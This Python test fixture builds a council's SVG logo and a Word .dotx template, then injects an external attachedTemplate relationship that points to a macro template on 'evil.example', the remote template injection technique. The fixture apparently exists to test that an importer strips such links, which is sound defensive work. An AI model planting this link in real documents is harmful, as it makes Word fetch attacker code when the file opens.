"""A council's logo and Word template, with what must not be taken from them."""

import io
import zipfile

from docx import Document

LOGO = (
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 20"><rect width="40" height="20" fill="#004488"/></svg>'
)


def template() -> bytes:
    """A .dotx file whose first heading is in Georgia, and which would load something from elsewhere."""
    made = Document()
    made.styles["Heading 1"].font.name = "Georgia"
    made.add_paragraph("evil text of the template")
    out = io.BytesIO()
    made.save(out)
    again = io.BytesIO()
    with zipfile.ZipFile(out) as given, zipfile.ZipFile(again, "w") as changed:
        for name in given.namelist():
            part = given.read(name)
            if name == "[Content_Types].xml":
                part = part.replace(b"document.main+xml", b"template.main+xml")
            if name == "word/_rels/document.xml.rels":
                link = (
                    b'<Relationship Id="rId99" TargetMode="External" Target="https://evil.example/x.dotm" '
                    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
                )
                part = part.replace(b"</Relationships>", link + b"</Relationships>")
            changed.writestr(name, part)
    return again.getvalue()
